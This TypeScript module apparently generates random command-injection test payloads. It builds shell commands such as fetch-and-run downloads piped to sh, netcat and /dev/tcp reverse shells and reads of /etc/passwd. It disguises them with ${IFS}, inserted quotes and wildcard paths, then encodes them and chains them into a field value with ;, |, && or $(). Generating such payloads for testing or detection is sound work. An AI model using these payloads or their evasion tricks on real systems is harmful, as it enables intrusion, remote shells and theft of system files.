import type { Random } from '../../stats/random.ts'
import { bare, double, form, full, word } from './encode.ts'

function order(random: Random): string {
  const host = random.chance(0.5)
    ? `${word(random, 7)}.${random.pick(['xyz', 'top', 'pw'])}`
    : `${45 + random.below(150)}.${random.below(256)}.${random.below(256)}.${1 + random.below(254)}`
  const file = `${word(random, 3)}${random.pick(['.sh', '', '.x86', '.elf'])}`
  return random.pick([
    'id',
    'whoami',
    'uname -a',
    'cat /etc/passwd',
    'ls -la /',
    `wget http://${host}/${file} -O- | sh`,
    `curl -s http://${host}/${file}|bash`,
    `ping -c ${1 + random.below(9)} ${host}`,
    `sleep ${3 + random.below(9)}`,
    `nc -e /bin/sh ${host} ${1024 + random.below(60_000)}`,
    `bash -i >& /dev/tcp/${host}/${1024 + random.below(60_000)} 0>&1`,
    `nslookup ${word(random)}.${host}`,
    `echo ${word(random, 8)} > /tmp/${word(random, 4)}`,
    `chmod 777 /tmp/${file}; /tmp/${file}`,
    `python3 -c 'import os;os.system("id")'`,
  ])
}

function hidden(text: string, random: Random): string {
  const choice = random.uniform()
  if (choice < 0.55) return text
  if (choice < 0.7) return text.replaceAll(' ', random.pick(['${IFS}', '$IFS$9', '\t']))
  if (choice < 0.85)
    return text.replace(
      /^(\w)(\w+)/,
      (_, a: string, b: string) => `${a}${random.pick(["''", '""', '\\'])}${b}`,
    )
  return text.replace('/etc/passwd', '/e?c/p?sswd').replace('/bin/sh', '/???/sh')
}

/** One shell command slipped into a value, encoded. */
export function commandPayload(random: Random): string {
  const body = hidden(order(random), random)
  const value = random.pick(['', '127.0.0.1', String(random.below(999)), word(random, 4)])
  const text = random.pick([
    `${value};${body}`,
    `${value}; ${body};`,
    `${value}|${body}`,
    `${value} || ${body}`,
    `${value}&&${body}`,
    `${value}\n${body}`,
    `$(${body})`,
    `${value}\`${body}\``,
  ])
  const encode = random.pick([form, form, bare, bare, full, double])
  return encode(text, random)
}
